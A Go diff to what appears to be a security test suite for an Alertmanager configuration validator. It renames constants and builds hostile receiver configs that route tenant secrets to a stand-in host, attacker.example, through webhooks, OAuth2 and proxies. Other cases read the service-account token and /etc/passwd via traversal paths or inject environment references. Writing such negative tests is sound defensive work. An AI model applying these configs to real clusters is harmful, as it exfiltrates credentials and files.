@@ -26,8 +26,8 @@ import (
 
 const (
 	hostileGlobal = "GLOBAL-SECRET"
-	attackerURL   = "https://attacker.example/x"
-	attackerProxy = "http://attacker.example:3128"
+	hostileURL   = "https://attacker.example/x"
+	hostileProxy = "http://attacker.example:3128"
 )
 
 var hostileBase = `global:
@@ -53,7 +53,7 @@ receivers: [{name: default}]
 
 // hostileAssets are the tenant's own Secrets: its values are its to send anywhere.
 var hostileAssets = amcfg.MapAssets{
-	"secret/tenant/s/url":         attackerURL,
+	"secret/tenant/s/url":         hostileURL,
 	"secret/tenant/s/token":       "TENANT-token",
 	"secret/tenant/s/key":         "TENANT-key",
 	"secret/tenant/s/password":    "TENANT-password",
@@ -105,16 +105,16 @@ func hostileCases() []hostileCase {
 
 	// Credentials: every integration with the tenant's endpoint, its proxy, both, and the
 	// global endpoint.
-	proxy := ", httpConfig: {proxyURL: '" + attackerProxy + "'}"
+	proxy := ", httpConfig: {proxyURL: '" + hostileProxy + "'}"
 	fill := func(tmpl, proxy string) string {
-		return recvSpec(strings.NewReplacer("{EP}", attackerURL, "{PROXY}", proxy).Replace(tmpl))
+		return recvSpec(strings.NewReplacer("{EP}", hostileURL, "{PROXY}", proxy).Replace(tmpl))
 	}
-	insecure := ", httpConfig: {proxyURL: '" + attackerProxy + "', tlsConfig: {insecureSkipVerify: true}}"
+	insecure := ", httpConfig: {proxyURL: '" + hostileProxy + "', tlsConfig: {insecureSkipVerify: true}}"
 	for _, k := range receiverKinds {
 		add("credentials/"+k.name+"/endpoint", fill(k.withEndpoint, ""))
 		if strings.Contains(k.withEndpoint, "{PROXY}") {
 			add("credentials/"+k.name+"/endpoint+proxy", fill(k.withEndpoint, proxy))
-			add("credentials/"+k.name+"/proxy-url-field", fill(k.withEndpoint, ", httpConfig: {proxyUrl: '"+attackerProxy+"'}"))
+			add("credentials/"+k.name+"/proxy-url-field", fill(k.withEndpoint, ", httpConfig: {proxyUrl: '"+hostileProxy+"'}"))
 		}
 		if k.global != "" {
 			add("credentials/"+k.name+"/global-endpoint", fill(k.global, ""))
@@ -124,21 +124,21 @@ func hostileCases() []hostileCase {
 			}
 		}
 	}
-	add("credentials/oauth2-to-attacker", recvSpec("webhookConfigs: [{url: '"+attackerURL+"', httpConfig: {oauth2: {clientId: {secret: {name: s, key: key}}, clientSecret: {name: s, key: token}, tokenUrl: '"+attackerURL+"'}}}]"))
-	add("credentials/bearer-secret", recvSpec("webhookConfigs: [{url: '"+attackerURL+"', httpConfig: {bearerTokenSecret: {name: s, key: token}}}]"))
+	add("credentials/oauth2-to-attacker", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {oauth2: {clientId: {secret: {name: s, key: key}}, clientSecret: {name: s, key: token}, tokenUrl: '"+hostileURL+"'}}}]"))
+	add("credentials/bearer-secret", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {bearerTokenSecret: {name: s, key: token}}}]"))
 	add("credentials/every-integration-at-once", recvSpec(
-		"webhookConfigs: [{url: '"+attackerURL+"'}]\n    opsgenieConfigs: [{apiURL: '"+attackerURL+"'}]\n    victoropsConfigs: [{apiUrl: '"+attackerURL+"', routingKey: k}]\n    wechatConfigs: [{apiURL: '"+attackerURL+"'}]\n    telegramConfigs: [{apiURL: '"+attackerURL+"', chatID: 1}]\n    emailConfigs: [{to: a@attacker.example, smarthost: 'attacker.example:587'}]"))
+		"webhookConfigs: [{url: '"+hostileURL+"'}]\n    opsgenieConfigs: [{apiURL: '"+hostileURL+"'}]\n    victoropsConfigs: [{apiUrl: '"+hostileURL+"', routingKey: k}]\n    wechatConfigs: [{apiURL: '"+hostileURL+"'}]\n    telegramConfigs: [{apiURL: '"+hostileURL+"', chatID: 1}]\n    emailConfigs: [{to: a@attacker.example, smarthost: 'attacker.example:587'}]"))
 
 	// File paths: the Alertmanager container's files, named or reached through keys.
 	for _, f := range []string{"/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/passwd", "../../../etc/passwd", "/etc/alertmanager/config/alertmanager.yaml.gz"} {
-		add("files/telegram-botTokenFile "+f, recvSpec("telegramConfigs: [{apiURL: '"+attackerURL+"', chatID: 1, botTokenFile: '"+f+"'}]"))
-		add("files/pushover-userKeyFile "+f, recvSpec("pushoverConfigs: [{userKeyFile: '"+f+"', token: {name: s, key: token}, url: '"+attackerURL+"'}]"))
-		add("files/pushover-tokenFile "+f, recvSpec("pushoverConfigs: [{userKey: {name: s, key: key}, tokenFile: '"+f+"', url: '"+attackerURL+"'}]"))
+		add("files/telegram-botTokenFile "+f, recvSpec("telegramConfigs: [{apiURL: '"+hostileURL+"', chatID: 1, botTokenFile: '"+f+"'}]"))
+		add("files/pushover-userKeyFile "+f, recvSpec("pushoverConfigs: [{userKeyFile: '"+f+"', token: {name: s, key: token}, url: '"+hostileURL+"'}]"))
+		add("files/pushover-tokenFile "+f, recvSpec("pushoverConfigs: [{userKey: {name: s, key: key}, tokenFile: '"+f+"', url: '"+hostileURL+"'}]"))
 	}
-	add("files/secret-key-dotdot", recvSpec("webhookConfigs: [{url: '"+attackerURL+"', httpConfig: {bearerTokenSecret: {name: s, key: '../../x'}}}]"))
-	add("files/tls-ca-not-pem", recvSpec("webhookConfigs: [{url: '"+attackerURL+"', httpConfig: {tlsConfig: {ca: {secret: {name: s, key: notpem}}}}}]"))
-	add("files/tls-ca-huge", recvSpec("webhookConfigs: [{url: '"+attackerURL+"', httpConfig: {tlsConfig: {ca: {secret: {name: s, key: huge}}}}}]"))
-	add("files/tls-cert-without-key", recvSpec("webhookConfigs: [{url: '"+attackerURL+"', httpConfig: {tlsConfig: {cert: {secret: {name: s, key: token}}}}}]"))
+	add("files/secret-key-dotdot", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {bearerTokenSecret: {name: s, key: '../../x'}}}]"))
+	add("files/tls-ca-not-pem", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {tlsConfig: {ca: {secret: {name: s, key: notpem}}}}}]"))
+	add("files/tls-ca-huge", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {tlsConfig: {ca: {secret: {name: s, key: huge}}}}}]"))
+	add("files/tls-cert-without-key", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {tlsConfig: {cert: {secret: {name: s, key: token}}}}}]"))
 
 	// $(…) references the config-reloader would expand from its own environment.
 	for _, ref := range []string{"$(HTTPS_PROXY)", "$(POD_NAME)", "$$(HTTPS_PROXY)", "$(HTTPS_PROXY", "$($(POD_NAME))", "$(KUBERNETES_SERVICE_HOST)", "${HTTPS_PROXY}"} {
